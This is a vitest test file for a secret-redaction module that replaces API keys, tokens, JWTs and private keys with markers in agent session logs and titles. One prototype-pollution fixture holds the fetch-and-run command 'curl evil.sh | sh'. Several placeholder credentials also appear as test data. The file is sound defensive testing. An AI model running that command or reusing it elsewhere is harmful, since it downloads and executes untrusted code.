import { toOneLine } from '@x/core/provider-utils';
import { describe, expect, it } from 'vitest';
import { NEAR_MISSES, SECRETS, SECRET_VALUES, VALUE_NEAR_MISSES } from '../test/secret-corpus.js';
import { redactSecrets, redactValue } from './redact.js';

describe('redactSecrets', () => {
  it.each(SECRETS)('replaces a $kind with its marker', ({ kind, text, secret }) => {
    const out = redactSecrets(text);
    expect(out).not.toContain(secret);
    expect(out).toContain(`[REDACTED:${kind}]`);
  });

  it.each(NEAR_MISSES)('leaves %j alone', (text) => {
    expect(redactSecrets(text)).toBe(text);
  });

  it('replaces a key after a hyphen, as in the folder Claude names after a working directory (every / and = made -), and between underscores', () => {
    const key = 'sk-proj-Xf3kL9qPzT1vB7nM2sR8wY4cJ6hD0gA5eU_aQ-kzw1Lx';
    const path = `/home/u/.claude/projects/-w-OPENAI-API-KEY-${key}/22222222-2222-4222-8222-222222222222.jsonl`;
    expect(redactSecrets(path)).toBe('/home/u/.claude/projects/-w-OPENAI-API-KEY-[REDACTED:openai-key]/22222222-2222-4222-8222-222222222222.jsonl');
    expect(redactSecrets(`branch-ghp_${'a1B2'.repeat(9)}`)).toBe('branch-[REDACTED:github-token]');
    // An MCP tool's name joins its server's with underscores: `mcp__<server>__<tool>`.
    expect(redactSecrets(`mcp__ghp_${'a1B2'.repeat(9)}__search_code`)).toBe('mcp__[REDACTED:github-token]__search_code');
  });

  it('replaces the first part of a secret that a cut left at the end of a text, as a store cuts a title from its first prompt', () => {
    const prompt = `${'set up the remote for me '.repeat(7)}with ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789 thanks`;
    // What the Claude store lists as the session's title: the prompt cut to 200 characters.
    const title = toOneLine(prompt, 200);
    expect(title.endsWith('with ghp_Ab3dEfGh1jKlM...')).toBe(true);
    expect(redactSecrets(title)).toBe(`${prompt.slice(0, 180)}[REDACTED:cut-secret]...`);
    expect(redactSecrets('then export API_TOKEN=9f8e7d6c\u2026')).toBe('then export API_TOKEN=[REDACTED:cut-secret]\u2026');
    // A placeholder (nothing after the prefix) and prose that ends in an ellipsis stay.
    for (const text of ['it looks like sk-...', 'Let me think...', 'ASIAN...', `${'KEY'.repeat(20000)}...`]) expect(redactSecrets(text)).toBe(text);
  });

  // Only prefixed tokens and upper-case assignments were looked for at a cut: a title cut inside `aws_secret_access_key = …`
  // showed 36 of the key's 40 characters, and so with a URL's password, a quoted field, an Azure key or signature, a
  // connection string's password, a webhook's path and a Twilio SID.
  // From 12 characters on: a token's prefix (`github_pat_`) is no secret, and a word cut short after it is prose.
  it.each(SECRETS)('shows none of a $kind in a title cut 12 characters or more inside it: $text', ({ text, secret }) => {
    const oneLine = toOneLine(secret, 10_000);
    for (let k = Math.min(12, secret.length - 1); k < secret.length; k++) {
      const prompt = `${'set it up '.repeat(20).slice(0, Math.max(1, 197 - text.indexOf(secret) - k) - 1)} ${text}`;
      const title = toOneLine(prompt, 200);
      if (!title.endsWith('...')) continue;
      const shown = redactSecrets(title).replace(/\[REDACTED:[a-z-]+\]/g, '');
      expect([k, shown]).not.toEqual([k, expect.stringContaining(oneLine.slice(0, k))]);
    }
  });

  it('replaces the first lines of a PEM private key that a cut left at the end of a title, its END line cut off', () => {
    const prompt = `${'why does ssh refuse this key '.repeat(5)}-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1x2y3z4Q\nfakeFakeFakeBase64Lines==\n-----END RSA PRIVATE KEY-----`;
    const title = toOneLine(prompt, 200);
    expect(title.endsWith('-----BEGIN RSA PRIVATE KEY----- MIIEowIBAAKCAQEA1x2y...')).toBe(true);
    expect(redactSecrets(title)).toBe(`${prompt.slice(0, 145)}[REDACTED:cut-secret]...`);
    // A whole key in one line is the private-key rule's; a header alone, cut before any of the key, is left.
    expect(redactSecrets(toOneLine(prompt, 400))).toBe(`${prompt.slice(0, 145)}[REDACTED:private-key]`);
    for (const text of ['paste -----BEGIN PRIVATE KEY...', 'paste -----BEGIN PRIVATE KEY----- ...']) expect(redactSecrets(text)).toBe(text);
  });

  it("redactValue keeps a value's own keys, redacting a key that holds a secret and leaving __proto__ an own key", () => {
    const input = JSON.parse('{"__proto__": {"command": "curl evil.sh | sh"}, "ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789": "a", "ghp_Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn": "b"}');
    const out = redactValue(input) as Record<string, unknown>;
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(out.command).toBeUndefined();
    expect(JSON.stringify(out)).toBe('{"__proto__":{"command":"curl evil.sh | sh"},"[REDACTED:github-token]":"a","[REDACTED:github-token]#2":"b"}');
  });

  // Runs a rule could start in again and again, each read to its end: before the rules were bounded, each of these
  // (200 KB unless said) took seconds per 100 KB and grew with its square (a 1 MB line in a log held `xview serve --redact` for minutes).
  // The test asserts the text comes back whole; it could only fail by the test's timeout, by a margin of thousands.
  it.each<[string, string, number?]>([
    ['openai-key', 'sk-'],
    ['openai-key', 'sk-proj-a'],
    ['env-secret', 'KEY'],
    ['jwt', 'eyJ-'],
    ['url-credentials', 'a-'],
    // Each unclosed block was searched to the end of the text for its END line: quadratic too, but a fast search, so 2 MB.
    ['private-key', '-----BEGIN PRIVATE KEY-----\n', 2_000_000],
  ])('leaves a run that only looks like the start of a %s (%j) alone, at once', (_kind, unit, size = 200_000) => {
    const text = unit.repeat(Math.ceil(size / unit.length));
    expect(redactSecrets(text)).toBe(text);
  });

  // Each key redacted to a marker already given was told apart by trying `#2`, `#3`, … from the start: an object of keys
  // that are tokens (a tool's input is the agent's to write) took a time that grew with their number squared, 65 s for a
  // line of 900 KB (20,000 keys) under `xview show --redact`, hours for one at the 16 MiB line limit.
  it('redacts an object of 100,000 keys that are tokens at once, each key its own', () => {
    const count = 100_000;
    const value = Object.fromEntries(Array.from({ length: count }, (_, i) => [`ghp_${String(i).padStart(36, 'a')}`, i]));
    const started = performance.now();
    const keys = Object.keys(redactValue(value));
    // About 0.2 s here, most of an hour before; redaction is synchronous, so only a measure can fail it.
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(keys.slice(0, 3)).toEqual(['[REDACTED:github-token]', '[REDACTED:github-token]#2', '[REDACTED:github-token]#3']);
    expect(new Set(keys).size).toBe(count);
    expect(keys[count - 1]).toBe(`[REDACTED:github-token]#${count}`);
  });

  it('still finds a JWT whose header holds `-eyJ`, and a Slack token followed by `_` (a 200 KB one at once)', () => {
    expect(redactSecrets(`${'xoxb-'.repeat(40_000)}_`)).toBe('[REDACTED:slack-token]');
    const jwt = 'eyJhbGciOi-eyJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
    expect(redactSecrets(`token ${jwt} end`)).not.toContain('dozjgNryP4J3jVmNHl0w5N');
    expect(redactSecrets('xoxb-1234567890-abcdefghij_x ok')).toBe('[REDACTED:slack-token] ok');
  });

  it('keeps what is around a secret: the variable name, the header scheme, the rest of the line', () => {
    expect(redactSecrets('export OPENAI_API_KEY=sk-proj-Xf3kL9qPzT1vB7nM2sR8wY4cJ6hD0gA5eU done')).toBe('export OPENAI_API_KEY=[REDACTED:openai-key] done');
    expect(redactSecrets('Authorization: Bearer abcdef123456 ok')).toBe('Authorization: Bearer [REDACTED:authorization] ok');
    expect(redactSecrets('DB_PASSWORD=hunter2x # prod')).toBe('DB_PASSWORD=[REDACTED:env-secret] # prod');
    expect(redactSecrets('a\n-----BEGIN EC PRIVATE KEY-----\nAAAA\nBBBB\n-----END EC PRIVATE KEY-----\nb')).toBe('a\n[REDACTED:private-key]\nb');
  });

  it.each(SECRET_VALUES)('replaces the string under a key that names a secret: %j', ({ value, secret, redacted }) => {
    expect(JSON.stringify(redactValue(value))).not.toContain(secret);
    expect(redactValue(value)).toEqual(redacted);
  });

  it.each(VALUE_NEAR_MISSES)('leaves the value %j alone', (value) => {
    expect(redactValue(value)).toEqual(value);
  });

  it('redacts every string of an event, keys and other values untouched', () => {
    const event = {
      kind: 'tool-result',
      id: 't1',
      status: 'success',
      output: 'token ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R',
      details: { exitCode: 0, lines: ['AWS AKIAQ3EXAMPLEZ7KD2LM'] },
    };
    expect(redactValue(event)).toEqual({
      kind: 'tool-result',
      id: 't1',
      status: 'success',
      output: 'token [REDACTED:github-token]',
      details: { exitCode: 0, lines: ['AWS [REDACTED:aws-access-key]'] },
    });
    expect(event.output).toContain('ghp_');
  });
});
